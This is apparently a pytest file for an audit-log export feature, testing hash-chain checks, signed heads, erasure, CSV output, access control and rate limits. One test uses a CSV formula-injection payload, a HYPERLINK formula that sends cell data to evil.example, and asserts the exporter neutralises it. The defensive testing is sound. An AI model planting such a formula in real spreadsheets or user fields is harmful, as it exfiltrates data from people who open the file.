"""The log as a file: whole, checkable anywhere, safe in a spreadsheet, logged itself, and valid after an erasure."""

import csv
import json
import subprocess
import sys
from dataclasses import replace
from io import StringIO
from pathlib import Path
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import delete

from cell.app import make_app
from cell.audit import export, heads, service
from cell.audit.models import SubjectKey
from cell.sessions.store import Sessions
from contracts.audit_check import Verdict, Wrong, check, split_lines
from contracts.audit_heads import SignedHead
from kit.signing import PublicKeys, SigningKey
from kit.storage import StorageUnavailable
from tests.cell.audit.acts import joined
from tests.cell.audit.tampering import cut_off
from tests.cell.browser import Answer, Browser
from tests.cell.world import Workspace, World
from tests.servers.postgres import Postgres

DOCS = Path(__file__).parents[3] / "docs" / "audit.md"
KEY = SigningKey(b"\1" * 32)
KEYS = PublicKeys([KEY.public])


@pytest.fixture(scope="module")
def signing(world: World) -> World:
    """The cell with a key of its own."""
    cell = replace(world.cell, settings=world.cell.settings.model_copy(update={"signing_key": KEY}))
    return replace(world, cell=cell, app=make_app(cell))


@pytest.fixture
async def reader(signing: World, workspace: Workspace) -> Browser:
    """An admin of the cell with a key."""
    return await signing.signed_in(workspace, workspace.admin)


async def taken(reader: Browser, workspace: Workspace, form: str = "jsonl", **filters: str) -> Answer:
    answer = await reader.post(f"{workspace.base}/audit/export", form={"form": form, **filters})
    assert answer.status == 200, answer.text
    return answer


def checked(answer: Answer, *kept: SignedHead) -> Verdict:
    return check(split_lines([answer.body]), kept, KEYS)


def rows(answer: Answer) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(answer.body.decode("utf-8-sig"))))


# -- JSON lines --------------------------------------------------------------------------------------------------------


async def test_the_whole_log_can_be_checked_and_ends_with_the_export_itself(
    signing: World, workspace: Workspace, reader: Browser
) -> None:
    await signing.link(workspace)
    await heads.publish(signing.cell, workspace.id)
    answer = await taken(reader, workspace)
    assert answer.headers["Content-Type"] == "application/x-ndjson"
    assert f'"{workspace.key}-audit-' in answer.headers["Content-Disposition"]
    verdict = checked(answer)
    assert verdict.holds, verdict.findings
    assert (verdict.entries, verdict.covered, verdict.file_signature) == (3, 2, "good")
    last = json.loads(answer.body.splitlines()[-2])
    assert last["stored"]["action"] == "audit.export" and last["stored"]["details"] == {"filters": [], "form": "jsonl"}
    assert last["readable"]["actor"] == {"name": "Ada Admin", "origin": "192.0.2.7"}


async def test_a_few_lines_of_python_check_it_as_the_page_for_auditors_says(
    signing: World, workspace: Workspace, reader: Browser, tmp_path: Path
) -> None:
    await signing.link(workspace)
    file = tmp_path / "log.jsonl"
    file.write_bytes((await taken(reader, workspace)).body)
    program = DOCS.read_text().split("```python\n")[1].split("```")[0]

    def checks() -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-c", program, str(file)]
        return subprocess.run(command, capture_output=True, text=True, timeout=30, check=False)

    last = json.loads(file.read_bytes().splitlines()[-2])["hash"]
    assert checks().stdout == f"3 entries, the last hash is {last}\n"
    file.write_bytes(file.read_bytes().replace(b'"max_uses":1', b'"max_uses":2'))
    assert (checks().returncode, checks().stderr) == (1, "entry 2 does not follow from the one before it\n")


async def test_filters_take_nothing_out_of_the_file_that_is_checked(workspace: Workspace, reader: Browser) -> None:
    assert checked(await taken(reader, workspace, action="person.create", since="2001-01-01")).entries == 2


async def test_a_log_of_several_batches_is_whole(
    signing: World, workspace: Workspace, reader: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "BATCH", 4)
    for _ in range(11):
        await signing.link(workspace)
    verdict = checked(await taken(reader, workspace))
    assert verdict.holds and verdict.entries == 13
    assert len(rows(await taken(reader, workspace, "csv"))) == 14


async def test_an_erased_person_leaves_the_file_valid_and_is_not_in_it(
    signing: World, workspace: Workspace, reader: Browser
) -> None:
    await joined(signing, workspace)
    before = await taken(reader, workspace)
    assert before.text.count("Eve Erased") == 1 and checked(before).holds
    [line] = [json.loads(line) for line in before.body.splitlines() if b"Eve Erased" in line]
    assert line["readable"]["target"] == {"name": "Eve Erased", "email": "eve@example.com"}
    async with signing.cell.database.writing(workspace.id) as tx:
        await tx.execute(delete(SubjectKey).where(SubjectKey.id == UUID(line["stored"]["target"]["id"])))
    after = await taken(reader, workspace)
    assert "Eve" not in after.text and "eve@example.com" not in after.text and "Ada Admin" in after.text
    verdict = checked(after)
    assert verdict.holds and verdict.entries == checked(before).entries + 1
    # Entry by entry the same bytes were hashed as before: only the reading help is poorer.
    assert [json.loads(one).get("hash") for one in before.body.splitlines()[1:-1]] == [
        json.loads(one).get("hash") for one in after.body.splitlines()[1:-2]
    ]
    assert "Eve" not in (await taken(reader, workspace, "csv")).text


async def test_entries_cut_off_in_the_database_show_by_the_head_in_the_bucket(
    signing: World, workspace: Workspace, reader: Browser, postgres: Postgres, cell_database: str
) -> None:
    for _ in range(6):
        await signing.link(workspace)
    await heads.publish(signing.cell, workspace.id)
    head = await heads.newest(signing.cell.bucket, workspace.id)
    assert head is not None and head.head.seq == 7
    await cut_off(postgres.superuser_dsn(cell_database), workspace, 3)
    verdict = checked(await taken(reader, workspace))  # the export adds entry 4, which chains well
    assert verdict.entries == 4
    finding = verdict.findings[0]
    assert (finding.wrong, finding.seq) == (Wrong.CUT_OFF, 5) and "before the signed head" in finding.reason


async def test_a_bucket_that_is_away_costs_the_file_its_head_alone(
    workspace: Workspace, reader: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def away(*_: object) -> None:
        raise StorageUnavailable("away")

    monkeypatch.setattr(heads, "newest", away)
    verdict = checked(await taken(reader, workspace))
    assert verdict.holds and verdict.heads == []


async def test_whoever_is_signed_out_meanwhile_gets_no_more_and_the_file_shows_it(
    signing: World, workspace: Workspace, reader: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "BATCH", 1)
    for _ in range(3):
        await signing.link(workspace)
    sessions = Sessions(signing.cell.redis, workspace.key, workspace.id)
    lines = service.lines
    read = 0

    async def ended_after_two(*given: object) -> object:
        nonlocal read
        read += 1
        if read == 3:
            await sessions.end_all(workspace.admin.id)
        return await lines(*given)  # type: ignore[arg-type]  # passed on as they came

    monkeypatch.setattr(service, "lines", ended_after_two)
    verdict = checked(await taken(reader, workspace))
    assert verdict.entries == 2 and verdict.findings[0].wrong is Wrong.CUT_OFF


# -- CSV ---------------------------------------------------------------------------------------------------------------


async def test_the_table_holds_what_the_filter_shows(signing: World, workspace: Workspace, reader: Browser) -> None:
    await signing.link(workspace)
    answer = await taken(reader, workspace, "csv", action="link.create")
    [row] = rows(answer)
    assert row["actor_name"] == "Ben Agent" and json.loads(row["details"]) == {"max_uses": 1} and len(row["hash"]) == 64
    assert answer.body.startswith(b"\xef\xbb\xbf") and answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    [logged] = rows(await taken(reader, workspace, "csv", action="audit."))[:1]
    assert json.loads(logged["details"]) == {"filters": ["action"], "form": "csv"}


async def test_no_name_becomes_a_formula(signing: World, workspace: Workspace, reader: Browser) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x")'
    await joined(signing, workspace, evil)
    [row] = rows(await taken(reader, workspace, "csv", action="person.create"))
    assert row["target_name"] == f"'{evil}"


@given(st.text())
def test_no_text_becomes_a_formula(text: str) -> None:
    shown = export.plain(text)
    assert shown in {text, f"'{text}"}
    assert not shown.startswith(export.FORMULA) and not shown.lstrip().startswith(export.FORMULA)


# -- who, and how often ------------------------------------------------------------------------------------------------


async def test_taking_the_log_along_is_an_act_and_not_a_get(workspace: Workspace, reader: Browser) -> None:
    assert (await reader.get(f"{workspace.base}/audit/export")).status in {404, 405}
    elsewhere = {"Origin": "https://evil.example"}
    answer = await reader.post(f"{workspace.base}/audit/export", form={"form": "csv"}, headers=elsewhere)
    assert answer.status == 403


async def test_an_auditor_takes_it_and_an_agent_does_not(signing: World, workspace: Workspace, agent: Browser) -> None:
    auditor = await signing.signed_in(workspace, await signing.member(workspace, "auditor"))
    assert checked(await taken(auditor, workspace)).holds
    for path in ("", "/1", "/head"):
        assert (await agent.get(f"{workspace.base}/audit{path}")).status == 403
    assert (await agent.post(f"{workspace.base}/audit/export", form={"form": "csv"})).status == 403


@pytest.mark.parametrize("form", [{}, {"form": "xml"}, {"form": "csv", "since": "yesterday"}])
async def test_a_file_of_no_kind_is_refused_and_not_logged(
    workspace: Workspace, reader: Browser, form: dict[str, str]
) -> None:
    assert (await reader.post(f"{workspace.base}/audit/export", form=form)).status == 422
    assert rows(await taken(reader, workspace, "csv", action="audit.export"))[1:] == []


async def test_a_program_that_asks_again_and_again_is_slowed_down(
    workspace: Workspace, reader: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("cell.audit.routes.EXPORTS", 1)
    await taken(reader, workspace, "csv")
    assert (await reader.post(f"{workspace.base}/audit/export", form={"form": "csv"})).status == 429


async def test_the_newest_head_can_be_kept(signing: World, workspace: Workspace, reader: Browser) -> None:
    none = await reader.get(f"{workspace.base}/audit/head")
    assert none.status == 404 and none.slug == "no-head-yet"
    await heads.publish(signing.cell, workspace.id)
    answer = await reader.get(f"{workspace.base}/audit/head")
    head = SignedHead.read(answer.body)
    head.verify(KEYS)
    assert f"{workspace.key}-audit-head-1.json" in answer.headers["Content-Disposition"]
    assert checked(await taken(reader, workspace), head).holds
